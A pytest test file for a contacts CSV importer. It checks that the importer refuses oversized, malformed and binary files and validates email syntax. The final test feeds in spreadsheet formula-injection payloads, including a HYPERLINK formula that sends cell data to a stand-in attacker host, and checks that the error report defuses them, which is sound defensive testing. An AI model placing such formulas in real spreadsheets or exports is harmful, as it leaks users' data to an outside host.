"""Issue 13 §4: hostile and odd files — width, line length, UTF-16 without a BOM, binary files, email syntax,
formula cells in the error report."""

from __future__ import annotations

import codecs
import csv
import io
import tracemalloc

import email_validator
import pytest

from contacts.importing import columns
from contacts.importing.rows import ContactPlan
from contacts.models import Contact, ImportJob
from tests.contacts.conftest import RunImport

pytestmark = pytest.mark.django_db


def test_a_file_wider_than_import_max_columns_fails_before_any_per_column_work(
    run_import: RunImport, settings: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.IMPORT_MAX_COLUMNS = 10  # type: ignore[attr-defined]

    def per_column_work(*args: object, **kwargs: object) -> None:
        raise AssertionError("the header was planned column by column")

    monkeypatch.setattr(ContactPlan, "from_header", per_column_work)
    header = ",".join(["email", *(f"c{i}" for i in range(11))])
    job = run_import(f"{header}\na@example.com{',x' * 11}\n")
    assert job.status == ImportJob.Status.FAILED
    assert "Line 1 has 12 columns; at most 10" in job.message
    assert "IMPORT_MAX_COLUMNS" in job.message


def test_the_30000_column_file_is_refused_with_little_memory(run_import: RunImport) -> None:
    # The attack file: 398 KB, 30,000 columns. It took the worker from 106 MB to 1 GB.
    header = "email," + ",".join(f"c{i}" for i in range(30_000))
    row = "a@example.com" + "," * 30_000
    data = "\n".join([header, *[row] * 5]) + "\n"
    tracemalloc.start()
    try:
        job = run_import(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert job.status == ImportJob.Status.FAILED
    assert "30,001 columns; at most 500" in job.message
    assert peak < 30 * 1024 * 1024
    assert not Contact.objects.exists()


def test_a_line_longer_than_import_max_line_bytes_is_refused(
    run_import: RunImport, settings: pytest.FixtureRequest
) -> None:
    settings.IMPORT_MAX_LINE_BYTES = 1000  # type: ignore[attr-defined]
    job = run_import("email,note\na@example.com,ok\nb@example.com," + "x" * 5000 + "\n")
    assert job.status == ImportJob.Status.FAILED
    assert "Line 3 is longer than 1,000 bytes" in job.message
    assert not Contact.objects.exists()


def test_an_unclosed_quote_cannot_swallow_the_file_past_the_line_limit(
    run_import: RunImport, settings: pytest.FixtureRequest
) -> None:
    settings.IMPORT_MAX_LINE_BYTES = 1000  # type: ignore[attr-defined]
    rows = "".join(f"p{i}@example.com,note\n" for i in range(200))
    job = run_import('email,note\na@example.com,"never closed\n' + rows)
    assert job.status == ImportJob.Status.FAILED
    assert "longer than 1,000 bytes" in job.message


def test_a_multibyte_line_is_measured_in_bytes(run_import: RunImport, settings: pytest.FixtureRequest) -> None:
    settings.IMPORT_MAX_LINE_BYTES = 1000  # type: ignore[attr-defined]
    # 400 characters, 1,200 bytes in UTF-8.
    job = run_import("email,note\na@example.com," + "€" * 400 + "\n")
    assert job.status == ImportJob.Status.FAILED
    assert "longer than 1,000 bytes" in job.message


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_read(run_import: RunImport, encoding: str) -> None:
    data = "email,first_name\nzoë@example.com,Zoë\n".encode(encoding)
    assert not data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    job = run_import(data)
    assert job.status == ImportJob.Status.DONE, job.message
    assert encoding in job.message
    assert Contact.objects.get(email="zoë@example.com").first_name == "Zoë"


def test_a_png_is_named_as_a_png_not_a_csv(run_import: RunImport) -> None:
    job = run_import(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01", name="photo.csv")
    assert job.status == ImportJob.Status.FAILED
    assert job.message == "This is not a CSV file: it is a PNG image."


def test_an_xlsx_is_named_with_what_to_do(run_import: RunImport) -> None:
    job = run_import(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", name="people.csv")
    assert job.status == ImportJob.Status.FAILED
    assert "Excel workbook (.xlsx); save the sheet as CSV" in job.message


def test_an_email_with_a_character_not_allowed_in_a_domain_is_a_row_error(run_import: RunImport) -> None:
    job = run_import("email\n'3tldjt@hmzwdtjsx.maepg=hasnub9mtrwn\nok@example.com\n")
    assert job.status == ImportJob.Status.DONE
    assert (job.created, job.errors) == (1, 1)
    assert list(Contact.objects.values_list("email", flat=True)) == ["ok@example.com"]


EMAILS = [
    "ann@example.com",
    "ann.o'neil+tag@mail.example.co.uk",
    "ANN@EXAMPLE.COM",
    "zoë@example.com",
    "ann@exämple.com",
    "ann@xn--exmple-cua.com",
    "'3tldjt@hmzwdtjsx.maepg=hasnub9mtrwn",
    "ann@localhost",
    "ann@example.test",
    "ann@example.local",
    "ann@1.2.3.4",
    "ann@[1.2.3.4]",
    "ann@ab--cd.com",
    "ann..b@example.com",
    ".ann@example.com",
    "ann@-example.com",
    "ann@example",
    "a" * 65 + "@example.com",
    "a" * 64 + "@example.com",
    "ann@" + "a" * 64 + ".com",
    '"ann"@example.com',
    "Ann <ann@example.com>",
    "ann@example.c0m",
]


@pytest.mark.parametrize("email", EMAILS)
def test_email_syntax_is_what_email_validator_says(email: str) -> None:
    try:
        email_validator.validate_email(email, check_deliverability=False)
        expected = True
    except email_validator.EmailNotValidError:
        expected = False
    assert columns.valid_email(email) is expected


def test_the_error_report_defuses_formula_cells(run_import: RunImport) -> None:
    job = run_import('email,name\n=HYPERLINK("http://evil.example/?"&A1),x\n@SUM(1+1)*cmd,y\n')
    assert job.errors == 2
    with job.error_report.open("rb") as raw:
        rows = list(csv.reader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))
    data = [row[2] for row in rows[1:]]
    assert data == ['\'=HYPERLINK("http://evil.example/?"&A1),x', "'@SUM(1+1)*cmd,y"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
